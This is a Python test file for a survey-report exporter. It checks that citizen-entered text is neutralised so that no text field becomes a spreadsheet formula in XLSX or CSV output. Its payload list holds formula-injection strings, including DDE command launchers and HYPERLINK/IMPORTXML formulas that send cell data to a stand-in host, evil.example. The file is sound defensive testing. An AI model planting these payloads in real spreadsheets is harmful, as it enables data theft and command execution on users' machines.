"""The renderer: citizen text never becomes a formula, in XLSX or CSV; big sheets split."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from reports.exports.raw import write_raw
from reports.exports.render import Formula, SheetSpec, cell_value, neutralise, stream_csv, stream_xlsx
from reports.exports.workbooks import UnitScope, unit_workbook
from surveys.models import Response
from surveys.textsafety import neutralise_csv
from tests import builders

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Pelayanan baik", "Antrean 3-4 jam", "email a@b.id", "", "100%"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_stay_numbers_and_only_our_formulas_are_formulas() -> None:
    assert cell_value(-3) == -3
    assert cell_value(Formula("=SUM(A1:A2)")) == "=SUM(A1:A2)"
    with pytest.raises(ValueError, match="starts with"):
        Formula("SUM(A1)")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_streamed_xlsx_cell_holds_the_payload_as_a_string(payload: str) -> None:
    buffer = io.BytesIO()
    stream_xlsx([SheetSpec("Uji", ["Saran"], [[payload]])], buffer)
    buffer.seek(0)
    cell = load_workbook(buffer)["Uji"]["A2"]
    assert cell.data_type == "s"
    # XML parsers may turn a carriage return into a newline; either way the apostrophe leads.
    assert cell.value.replace("\r", "\n") == ("'" + payload).replace("\r", "\n")


def test_a_csv_field_is_neutralised_too() -> None:
    text = io.StringIO()
    stream_csv(SheetSpec("Uji", ["Saran", "Nilai"], [[payload, -1] for payload in PAYLOADS]), text)
    parsed = list(csv.reader(io.StringIO(text.getvalue())))
    assert [row[0] for row in parsed[1:]] == [neutralise_csv(payload) for payload in PAYLOADS]
    assert all(row[0].startswith("'" + payload[0]) for row, payload in zip(parsed[1:], PAYLOADS, strict=True))
    assert {row[1] for row in parsed[1:]} == {"-1"}


def test_a_sheet_longer_than_the_row_limit_continues_on_a_new_sheet_with_its_header() -> None:
    buffer = io.BytesIO()
    written = stream_xlsx([SheetSpec("Data", ["No"], ([n] for n in range(1, 8)))], buffer, max_rows=4)
    buffer.seek(0)
    workbook = load_workbook(buffer)
    assert written == 7
    assert workbook.sheetnames == ["Data", "Data (2)", "Data (3)"]
    assert [[cell.value for cell in row] for row in workbook["Data (2)"].iter_rows()] == [["No"], [4], [5], [6]]
    assert [cell.value for cell in workbook["Data (3)"]["A"]] == ["No", 7]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_a_citizens_suggestion_is_inert_in_every_export(city: Any, instrument: Any, period: Any, payload: str) -> None:
    response = builders.make_response(city.kelurahan, [3] * 9, instrument=instrument, period=period)
    Response.objects.filter(pk=response.pk).update(suggestion=payload, occupation_other=payload, service_other=payload)

    workbook, _facts = unit_workbook(UnitScope(city.kelurahan, period))
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    saran = load_workbook(buffer)["Saran"]
    assert saran["D5"].value == "'" + payload
    assert saran["C5"].value == "'" + payload  # the free-text service name
    assert saran["D5"].data_type == "s"

    raw = io.BytesIO()
    write_raw(period=period, unit_ids=[city.kelurahan.pk], out=raw)
    raw.seek(0)
    sheet = load_workbook(raw)["Data mentah"]
    texts = [cell.value for cell in sheet[2] if isinstance(cell.value, str)]
    assert texts.count("'" + payload) == 3
    assert not any(cell.data_type == "f" for cell in sheet[2])

    raw_csv = io.BytesIO()
    write_raw(period=period, unit_ids=[city.kelurahan.pk], out=raw_csv, file_format="csv")
    rows = list(csv.reader(io.StringIO(raw_csv.getvalue().decode("utf-8-sig"))))
    assert rows[1].count("'" + payload) == 3
